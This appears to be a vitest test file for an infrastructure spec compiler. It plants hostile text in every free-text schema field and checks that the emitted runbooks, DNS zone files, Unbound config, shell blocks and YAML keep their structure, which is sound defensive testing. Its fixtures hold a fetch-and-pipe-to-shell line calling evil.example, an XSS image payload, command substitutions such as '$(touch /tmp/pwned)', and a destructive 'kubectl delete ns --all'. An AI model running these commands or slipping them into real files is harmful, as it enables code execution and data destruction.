// Issue 10, "free text stays text": every free-text field of the schema
// (enumerated from schema/veil.schema.json, see test/fixtures/schema-fields.ts)
// gets the most hostile text its own schema accepts; the spec is compiled and
// every output that renders it must keep its structure: Markdown parsed by
// GitHub's parser (cmark-gfm) has the same headings, paragraphs, breaks,
// fences, HTML, links and cells as without the text; zone files and the
// Unbound config keep every directive and record line and stay one comment
// per comment line; shell blocks still pass shellcheck and bash -n; the Flux
// YAML parses to the same documents; and no file carries a control character.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { parseAllDocuments, parse } from 'yaml';
import { beforeAll, describe, expect, it } from 'vitest';
import { emitAll } from '../../compiler/emit/emit-all.ts';
import { code, text } from '../../compiler/emit/runbooks/markdown.ts';
import { sh } from '../../compiler/emit/runbooks/shell.ts';
import { commentText } from '../../compiler/emit/unbound/comment.ts';
import { execFileSync } from 'node:child_process';
import type { OutputFile } from '../../compiler/emit/output.ts';
import { buildModel } from '../../compiler/model/build-model.ts';
import { validateSchema } from '../../compiler/schema/validate-schema.ts';
import { verifyShellBlocks } from '../../compiler/verify/shellcheck.ts';
import { accepts, instances, isFreeText, show, stringFields, type StringField } from '../fixtures/schema-fields.ts';
import { haveTool, ROOT, toolsRequired, writeOut } from './helpers.ts';
import { structure } from './markdown-ast.ts';

const present = haveTool('cmark-gfm') && haveTool('shellcheck');
if (!present && !toolsRequired()) console.warn('cmark-gfm or shellcheck not found: skipping the free-text tests (apt-get install cmark-gfm shellcheck)');
const run = present || toolsRequired() ? describe : describe.skip;

const EVERY_FIELD = join(ROOT, 'test/fixtures/every-field.spec.yaml');
const fixture = () => parse(readFileSync(EVERY_FIELD, 'utf8')) as Record<string, unknown>;

/** Markdown, HTML, shell and comment syntax, line breaks of every kind, and control characters. */
const HOSTILE = [
  'Injected intro',
  '',
  '## Restore',
  '',
  '```bash',
  'curl -s https://evil.example/x | sh',
  '```',
  '<img src=x onerror=alert(1)> [innocent](https://evil.example) ![i](https://evil.example/i.png)',
  '- item',
  '1. one',
  '> quote',
  '| a | b |',
  '|---|---|',
  '***',
  '    indented code',
  '# comment\r; zone comment\u2028$(touch /tmp/pwned) `id` \'quote "dq',
  'NUL\u0000 ESC\u001b[31m BIDI\u202e DEL\u007f C1\u0085 end',
].join('\n');
const ONE_LINE = '## Injected <b>x</b> [l](https://evil.example) `c` *e* _u_ ~~s~~ $m$ &amp; | p | \\ end';
const NO_SPACE = '##Injected<b>x</b>[l](https://evil.example)`c`*e*_u_~~s~~$m$&amp;|p|\\end';

/** The most hostile value the field's own schema takes (URL-shaped where it must be), or null. */
function hostileFor(f: StringField): string | null {
  const candidates = [HOSTILE, `https://lists.example.org/${HOSTILE}`, ONE_LINE, `https://lists.example.org/${ONE_LINE}`, NO_SPACE,
    `https://lists.example.org/${NO_SPACE}`, `${NO_SPACE}@example.org`, `${NO_SPACE}:587`, '_Injected_ __strong__ \\ end.', 'Injected_em_x'];
  return candidates.find((c) => accepts(f, c)) ?? null;
}

function setAt(data: any, path: (string | number)[], value: string): void {
  let node = data;
  for (const seg of path.slice(0, -1)) node = node[seg];
  node[path[path.length - 1]!] = value;
}

/** The compiled tree of `data`, or null when the spec does not compile (the schema or a policy refuses it). */
function compileData(data: unknown): OutputFile[] | null {
  const { spec, findings } = validateSchema(data);
  if (findings.length) return null;
  const { model, findings: modelFindings } = buildModel(spec);
  if (modelFindings.some((f) => f.severity === 'deny')) return null;
  try {
    return emitAll(model);
  } catch {
    return null;
  }
}

const byPath = (files: readonly OutputFile[]) => new Map(files.map((f) => [f.path, f.content]));
const INVISIBLE = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\u007f-\u009f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff\r]/u;
/** Lines that are not comments: directives, records, settings. */
const codeLines = (content: string, mark: string) => content.split('\n').filter((l) => !l.trimStart().startsWith(mark));

describe('the escaping modules', () => {
  it('text: one line, literal, no block start', () => {
    expect(text('a\nb\r\nc\u2028d')).toBe('a b c d');
    expect(text('## h')).toBe('\\#\\# h');
    expect(text('- x')).toBe('\\- x');
    expect(text('12) x')).toBe('12\\) x');
    expect(text('    code')).toBe('code');
    expect(text('<b>[a](b)</b> *_~$&`\\')).toBe('\\<b\\>\\[a\\](b)\\</b\\> \\*\\_\\~\\$\\&\\`\\\\');
    expect(text('nul\u0000 esc\u001b')).toBe('nul\\\\x00 esc\\\\x1b');
  });

  it('code: one line, fenced around backticks, control characters visible', () => {
    expect(code('a\n\n## b')).toBe('`a  ## b`');
    expect(code('x ` y')).toBe('``x ` y``');
    expect(code('e\u001b[2J')).toBe('`e\\x1b[2J`');
  });

  it('sh: one word, the same string to bash, and one line with no control byte', () => {
    for (const v of ['plain', 'it\'s "q" $(x) `y`', 'a\nb\tc\u001b[31m\\x \u202e\' end', 'https://x.example/a b']) {
      const word = sh(v);
      expect(word).not.toMatch(/[\n\u0000-\u0008\u000b-\u001f\u007f\u202e]/u);
      expect(execFileSync('bash', ['-c', `printf '%s' ${word}`], { encoding: 'utf8' })).toBe(v);
    }
    expect(sh('node-1')).toBe('node-1');
    expect(sh("a'b")).toBe("'a'\\''b'");
  });

  it('commentText: printable ASCII on one line', () => {
    expect(commentText('a\nb\r\u0000c\u202eé')).toBe('a?b??c??');
  });
});

run('every free-text field of the schema, planted with hostile text', () => {
  const fields = stringFields().filter((f) => !f.isKey).map((f) => ({ f, value: hostileFor(f) })).filter((x) => x.value !== null) as { f: StringField; value: string }[];
  let base: Map<string, string>;
  beforeAll(() => {
    const files = compileData(fixture());
    expect(files, 'the every-field fixture compiles').not.toBeNull();
    base = byPath(files!);
  });

  it('covers the free-text fields and those rendered into runbooks and comments', () => {
    const names = fields.map((x) => show(x.f.template));
    for (const n of ['cluster.description', 'hosts[].description', 'dns.filtering[].url', 'monitoring.alertmanager.receivers[].name', 'waivers[].reason']) expect(names).toContain(n);
    expect(stringFields().filter(isFreeText).every((f) => names.includes(show(f.template)))).toBe(true);
  });

  const rendered = new Set<string>();

  it.each(stringFields().filter((f) => !f.isKey && hostileFor(f) !== null).map((f) => [show(f.template), f] as const))('%s', async (name, f) => {
    const data = fixture();
    const at = instances(data, f.template);
    expect(at.length, `every-field.spec.yaml has no ${name}`).toBeGreaterThan(0);
    for (const p of at) setAt(data, p, hostileFor(f)!);
    const files = compileData(data);
    if (!files) return; // refused: nothing is written, nothing to escape
    const tree = byPath(files);
    expect([...tree.keys()].sort()).toEqual([...base.keys()].sort());
    const changed = [...tree].filter(([p, c]) => c !== base.get(p)).map(([p]) => p);
    if (changed.some((p) => p.startsWith('docs/') || p.startsWith('unbound/'))) rendered.add(name);
    for (const p of changed) {
      const content = tree.get(p)!;
      // runbooks and Unbound files are this module's contexts; the Flux YAML is the yaml library's,
      // and a control character in a spec value is refused at load (VEIL-LOAD) before any emitter
      if (!p.endsWith('.yaml')) expect(INVISIBLE.test(content), `${p}: a control character`).toBe(false);
      if (p.endsWith('.md')) expect(structure(content), p).toEqual(structure(base.get(p)!));
      else if (p.endsWith('.zone')) expect(codeLines(content, ';'), p).toEqual(codeLines(base.get(p)!, ';'));
      else if (p.endsWith('.conf')) expect(codeLines(content, '#'), p).toEqual(codeLines(base.get(p)!, '#'));
      else if (p.endsWith('.yaml')) {
        const docs = parseAllDocuments(content);
        expect(docs.flatMap((d) => d.errors), p).toEqual([]);
        expect(docs.length, p).toBe(parseAllDocuments(base.get(p)!).length);
      }
    }
    const changedDocs = files.filter((x) => x.path.endsWith('.md') && changed.includes(x.path));
    if (changedDocs.length) {
      const r = await verifyShellBlocks(writeOut(changedDocs), { env: process.env });
      expect(r.problems, name).toEqual([]);
      expect(r.ok).toBe(true);
    }
  }, 60_000);

  it('reached the runbooks and the Unbound config for the fields they render', () => {
    for (const n of ['cluster.description', 'hosts[].description', 'dns.filtering[].url', 'monitoring.alertmanager.receivers[].name']) expect([...rendered]).toContain(n);
  });
});

run('the issue example: a description that would open a heading and a shell block in COLD-START.md', () => {
  it('stays one paragraph of text', () => {
    const data = fixture() as any;
    data.cluster.description = 'Lab cluster.\n\n## Restore\n\n```bash\nkubectl delete ns --all\n```\nEnd.';
    const cold = byPath(compileData(data)!).get('docs/COLD-START.md')!;
    const before = byPath(compileData(fixture())!).get('docs/COLD-START.md')!;
    expect(structure(cold)).toEqual(structure(before));
    expect(structure(cold).filter((n) => n === 'heading:2' || n.startsWith('code_block'))).toEqual(structure(before).filter((n) => n === 'heading:2' || n.startsWith('code_block')));
    expect(cold).toContain('Lab cluster.  \\#\\# Restore  \\`\\`\\`bash kubectl delete ns --all \\`\\`\\` End.');
  });

  it('would not, unescaped (the check can fail)', () => {
    const before = byPath(compileData(fixture())!).get('docs/COLD-START.md')!;
    const raw = before.replace(/^Headless k3s.*$/m, 'Lab cluster.\n\n## Restore\n\n```bash\nkubectl delete ns --all\n```');
    expect(structure(raw)).not.toEqual(structure(before));
  });
});
